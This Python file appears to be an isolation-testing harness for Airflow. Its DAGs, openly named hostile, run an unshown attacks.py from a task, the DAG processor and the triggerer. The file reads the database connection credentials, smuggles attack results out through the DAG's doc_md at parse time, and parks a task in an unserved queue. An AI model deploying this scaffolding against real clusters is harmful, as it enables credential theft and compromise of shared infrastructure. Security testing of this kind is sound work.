# Copyright (c) 2026 windfarm.airflow contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
"""A DAG that attacks its cluster wherever its author's code runs: in a task, in the dag processor, in the triggerer.
TARGETS is filled in when the file is shipped, with attacks.py beside it."""

from __future__ import annotations

import json
import os
import pwd
import subprocess
import sys
from pathlib import Path
from typing import Any

from airflow.sdk import BaseOperator, dag, task
from airflow.triggers.base import BaseTrigger

TARGETS: dict[str, Any] = {}
ATTACKS = Path(__file__).with_name("attacks.py")


def attack(**more: Any) -> dict[str, Any]:
    command = [sys.executable, str(ATTACKS)]
    order = json.dumps({**TARGETS, **more})
    done = subprocess.run(command, input=order, capture_output=True, text=True, timeout=100, check=False)
    found: dict[str, Any] = json.loads(done.stdout) if done.returncode == 0 else {"error": done.stderr[-2000:]}
    return found


def at_parse() -> str:
    """Only the dag processor's copy of a DAG gets into the database, and a text that stays the same is no new version."""
    if not TARGETS or pwd.getpwuid(os.getuid()).pw_name != "airflow-dag-processor":
        return ""
    found = attack()
    for one in found.get("attacks", {}).values():
        del one["denied"], one["tried"]
    return json.dumps(found)


class Elsewhere(BaseTrigger):
    """Its name is what the triggerer imports: hostile_trigger.py, in the folder of plugins."""

    def serialize(self) -> tuple[str, dict[str, Any]]:
        return "hostile_trigger.HostileTrigger", {"program": str(ATTACKS), "order": json.dumps(TARGETS)}

    async def run(self) -> Any:
        raise NotImplementedError
        yield


class InTriggerer(BaseOperator):
    def execute(self, context: Any) -> None:
        self.defer(trigger=Elsewhere(), method_name="back")

    def back(self, context: Any, event: Any = None) -> Any:
        return event


@dag(schedule=None, is_paused_upon_creation=False, doc_md=at_parse())
def hostile() -> None:
    @task(retries=0)
    def in_task() -> dict[str, Any]:
        from airflow import settings
        from airflow.configuration import conf

        urls = [conf.get("database", "sql_alchemy_conn"), getattr(settings, "SQL_ALCHEMY_CONN", None)]
        return attack(urls=[url for url in urls if url])

    in_task()
    InTriggerer(task_id="in_triggerer", retries=0)


@dag(schedule=None, is_paused_upon_creation=False)
def hostile_victim() -> None:
    """A task that waits in a queue which nobody serves."""

    @task(queue=TARGETS.get("queue", "hostile-idle"), retries=0)
    def waits() -> None:
        pass

    waits()


hostile()
hostile_victim()
